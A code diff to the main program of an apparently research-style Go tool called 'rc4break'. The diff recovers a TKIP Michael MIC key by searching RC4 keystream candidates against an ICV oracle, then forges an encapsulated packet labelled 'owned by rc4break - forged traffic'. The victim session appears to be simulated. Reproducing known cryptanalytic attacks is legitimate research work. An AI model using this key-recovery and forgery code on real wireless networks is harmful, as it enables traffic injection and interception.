@@ -12,6 +12,7 @@ import (
 	"math/rand"
 
 	"rc4break/internal/netsim"
+	"rc4break/internal/online"
 	"rc4break/internal/packet"
 	"rc4break/internal/rc4"
 	"rc4break/internal/tkip"
@@ -57,13 +58,18 @@ func main() {
 	}
 
 	fmt.Println("walking candidate list, pruning by ICV...")
-	micKey, depth, err := attack.RecoverTrailer(session.DA, session.SA, victim.MSDU, 1<<18)
+	oracle := &tkip.TrailerOracle{DA: session.DA, SA: session.SA, MSDU: victim.MSDU}
+	res, err := online.Search(attack, oracle, 1<<18)
 	if err != nil {
-		fmt.Println("attack failed this run:", err)
+		panic(err)
+	}
+	if res.Plaintext == nil {
+		fmt.Printf("no ICV-valid trailer in the top %d candidates this run\n", res.Checks)
 		return
 	}
+	micKey := oracle.MICKey
 	fmt.Printf("correct ICV at candidate %d; recovered MIC key %x (real %x)\n",
-		depth, micKey, session.MICKey)
+		res.Rank, micKey, session.MICKey)
 
 	forged := (&tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA,
 		DA: session.DA, SA: session.SA}).Encapsulate([]byte("owned by rc4break - forged traffic"), 0xBEEF)
